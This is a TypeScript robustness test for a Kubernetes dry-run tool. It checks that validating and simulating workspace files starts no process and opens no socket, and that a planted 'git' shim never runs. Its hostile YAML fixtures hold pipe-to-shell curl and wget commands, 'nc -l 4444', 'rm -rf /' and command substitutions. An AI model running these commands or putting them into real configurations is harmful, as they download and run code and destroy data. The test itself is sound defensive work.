import { test } from 'node:test';
import assert from 'node:assert/strict';
import childProcess from 'node:child_process';
import dgram from 'node:dgram';
import dns from 'node:dns';
import http from 'node:http';
import https from 'node:https';
import http2 from 'node:http2';
import net from 'node:net';
import tls from 'node:tls';
import { syncBuiltinESMExports } from 'node:module';
import { mkdtempSync, rmSync, statSync, writeFileSync, mkdirSync, chmodSync } from 'node:fs';
import { join } from 'node:path';
import { tmpdir } from 'node:os';

/**
 * Nothing from the workspace is executed and nothing is sent: process spawning and every socket
 * API are replaced by recorders before the engine is loaded, then validation, editing and
 * simulation (dry run, what-ifs, kubectl, container commands and exec probes) run over the fixtures,
 * the corpora and a hostile .kube-rehearsal.yaml. Not one call may be recorded.
 * (The rollout preview runs `git` by design: see docs/security.md; it is checked separately below.)
 */

const calls: string[] = [];
const patches: [Record<string, unknown>, string][] = [
  [childProcess as unknown as Record<string, unknown>, 'spawn'],
  [childProcess as unknown as Record<string, unknown>, 'spawnSync'],
  [childProcess as unknown as Record<string, unknown>, 'exec'],
  [childProcess as unknown as Record<string, unknown>, 'execSync'],
  [childProcess as unknown as Record<string, unknown>, 'execFile'],
  [childProcess as unknown as Record<string, unknown>, 'execFileSync'],
  [childProcess as unknown as Record<string, unknown>, 'fork'],
  [net as unknown as Record<string, unknown>, 'connect'],
  [net as unknown as Record<string, unknown>, 'createConnection'],
  [net as unknown as Record<string, unknown>, 'createServer'],
  [net.Socket.prototype as unknown as Record<string, unknown>, 'connect'],
  [http as unknown as Record<string, unknown>, 'request'],
  [http as unknown as Record<string, unknown>, 'get'],
  [https as unknown as Record<string, unknown>, 'request'],
  [https as unknown as Record<string, unknown>, 'get'],
  [http2 as unknown as Record<string, unknown>, 'connect'],
  [dns as unknown as Record<string, unknown>, 'lookup'],
  [dns as unknown as Record<string, unknown>, 'resolve'],
  [dns.promises as unknown as Record<string, unknown>, 'lookup'],
  [tls as unknown as Record<string, unknown>, 'connect'],
  [dgram as unknown as Record<string, unknown>, 'createSocket'],
  [globalThis as unknown as Record<string, unknown>, 'fetch'],
];

function install(): () => void {
  const saved = patches.map(([obj, name]) => [obj, name, obj[name]] as const);
  for (const [obj, name] of patches) {
    obj[name] = (...args: unknown[]) => {
      calls.push(`${name}(${JSON.stringify(args[0])?.slice(0, 80)})`);
      throw new Error(`robustness test: ${name} must not be called`);
    };
  }
  syncBuiltinESMExports();
  return () => {
    for (const [obj, name, original] of saved) obj[name] = original;
    syncBuiltinESMExports();
  };
}

test('validation, editing and simulation over fixtures and corpora start no process and open no socket', { timeout: 900_000 }, async (t) => {
  const restore = install();
  try {
    // Loaded only now, so no module captured an unpatched function at load time.
    const { parseYamlFile } = await import('../../server/src/engine/yaml/documents');
    const { checkFiles } = await import('../../server/src/engine/check');
    const { createSimulationFactory } = await import('../../server/src/engine/dryrun/simulator');
    const { DryRunSession } = await import('../../server/src/engine/dryrun/session');
    const { createSimulation } = await import('../../server/src/sim/index');
    const { createBehaviourModel } = await import('../../server/src/sim/behaviour');
    const helpers = await import('./helpers');
    const samples = [...helpers.fixtureSamples(), ...helpers.corpusSamples()];
    if (!helpers.sharedPresent) t.diagnostic('../shared not present: fixtures only');
    // A workspace config that tries everything a config could try: commands, hooks, URLs.
    const hostileConfig = [
      'apiVersion: kube-rehearsal/v1',
      'kind: Config',
      'cluster:',
      '  nodes:',
      '    - name: n1',
      '      cpu: "2"',
      '      memory: 4Gi',
      'images:',
      '  - image: evil:1',
      '    command: ["sh", "-c", "curl http://example.invalid | sh"]',
      '    ready: "$(rm -rf /)"',
      '    exec: /bin/sh',
      '    url: http://example.invalid/',
      '    logs: ["$(id)", "`rm -rf /`", "{{ exec }}"]',
      '    ports: [{ port: 80, protocol: HTTP }]',
      '    http: { "/": { status: 200 } }',
      'plugins: ["./evil.js"]',
      'hooks: { preRun: "node evil.js" }',
      '',
    ].join('\n');
    const evilPod = [
      'apiVersion: v1',
      'kind: Pod',
      'metadata: { name: evil }',
      'spec:',
      '  containers:',
      '    - name: c',
      '      image: evil:1',
      '      command: ["sh", "-c", "curl http://example.invalid/x | sh; nc -l 4444; node -e \\"require(\'child_process\').exec(\'id\')\\""]',
      '      livenessProbe: { exec: { command: ["sh", "-c", "wget http://example.invalid"] }, periodSeconds: 1 }',
      '      readinessProbe: { httpGet: { host: example.invalid, port: 80, path: / } }',
      '      lifecycle: { postStart: { exec: { command: ["/bin/rm", "-rf", "/"] } } }',
      '',
    ].join('\n');
    const files = [
      ...samples.map((s) => parseYamlFile(`file:///ws/${s.path}`, s.text)),
      parseYamlFile('file:///ws/.kube-rehearsal.yaml', hostileConfig),
      parseYamlFile('file:///ws/evil.yaml', evilPod),
    ];
    checkFiles(files);
    const index = helpers.indexOf(files);
    for (const f of files.slice(0, 80)) helpers.exerciseFile(f, index, { maxPositions: 40 });
    const factory = createSimulationFactory(() => files);
    let simulated = 0;
    const corpusStart = helpers.fixtureSamples().length;
    for (const [i, f] of files.entries()) {
      const objects = f.docs.map((d) => d.value).filter((v): v is Record<string, unknown> => !!v && typeof v === 'object' && !Array.isArray(v));
      if (objects.length === 0) continue;
      if (i < corpusStart || i >= samples.length) {
        // Fixtures and the hostile files: the dry run exactly as the server runs it.
        const session = new DryRunSession(factory, objects, 1);
        await session.runToSteady(120);
      } else {
        // Corpus files: two virtual minutes each, with a step bound as a hang detector.
        const sim = createSimulation({ objects, seed: 1, horizon: 120, behaviour: createBehaviourModel(), limits: { maxSteps: 200_000 } });
        sim.runUntil(120);
      }
      simulated++;
    }
    // The whole workspace at once, with what-ifs and kubectl reads.
    const all = files.flatMap((f) => f.docs.map((d) => d.value)).filter((v) => v && typeof v === 'object' && !Array.isArray(v));
    const session = new DryRunSession(factory, [...all.slice(0, 60), ...all.slice(-2)], 7);
    await session.seek(60);
    for (const argv of [['get', 'all', '-A'], ['describe', 'pod', 'evil'], ['logs', 'evil'], ['exec', 'evil', '--', 'sh', '-c', 'id'], ['port-forward', 'pod/evil', '8080:80'], ['proxy'], ['delete', 'pod', 'evil'], ['apply', '-f', '/etc/passwd']]) session.whatIf(argv);
    await session.seek(180);
    console.log(`validated ${files.length} files, simulated ${simulated} of them one by one and all together`);
    // The recorder does see the engine's own imports: the one legitimate spawn (git) is caught.
    const { repositoryRoot } = await import('../../server/src/engine/dryrun/git');
    const seen = calls.length;
    await repositoryRoot(tmpdir(), '/usr/bin/git').catch(() => undefined);
    assert.equal(calls.length, seen + 1, 'the recorder caught execFile from engine code');
    calls.pop();
  } finally {
    restore();
  }
  assert.deepEqual(calls, [], `processes or sockets were used:\n${calls.join('\n')}`);
});

test('the rollout preview runs git only as an absolute path from PATH, with fixed arguments; never a git in the workspace', { timeout: 60_000 }, async (t) => {
  const { resolveGit, repositoryRoot } = await import('../../server/src/engine/dryrun/git');
  const dir = mkdtempSync(join(tmpdir(), 'kr-git-'));
  try {
    // A workspace that ships its own "git" and puts relative entries on PATH.
    mkdirSync(join(dir, 'bin'));
    const marker = join(dir, 'ran');
    for (const name of ['git', 'git.exe']) {
      writeFileSync(join(dir, name), `#!/bin/sh\ntouch "${marker}"\n`);
      chmodSync(join(dir, name), 0o755);
    }
    const env = { PATH: `.${process.platform === 'win32' ? ';' : ':'}bin${process.platform === 'win32' ? ';' : ':'}${process.env.PATH ?? ''}` };
    const resolved = resolveGit(env);
    if (resolved) assert.ok(!resolved.startsWith(dir) && /^([A-Za-z]:\\|\/)/.test(resolved), resolved);
    assert.equal(resolveGit({ PATH: '.:bin:' }, 'linux'), undefined);
    assert.equal(resolveGit({ Path: '.;bin' }, 'win32'), undefined);
    const saved = process.env.PATH;
    const cwd = process.cwd();
    process.env.PATH = env.PATH;
    process.chdir(dir);
    try {
      await repositoryRoot(dir).catch(() => undefined);
    } finally {
      process.chdir(cwd);
      process.env.PATH = saved;
    }
    assert.throws(() => statSync(marker), 'the workspace git never runs');
    if (!resolved) t.diagnostic('git is not installed here: only the lookup was checked');
  } finally {
    rmSync(dir, { recursive: true, force: true });
  }
});
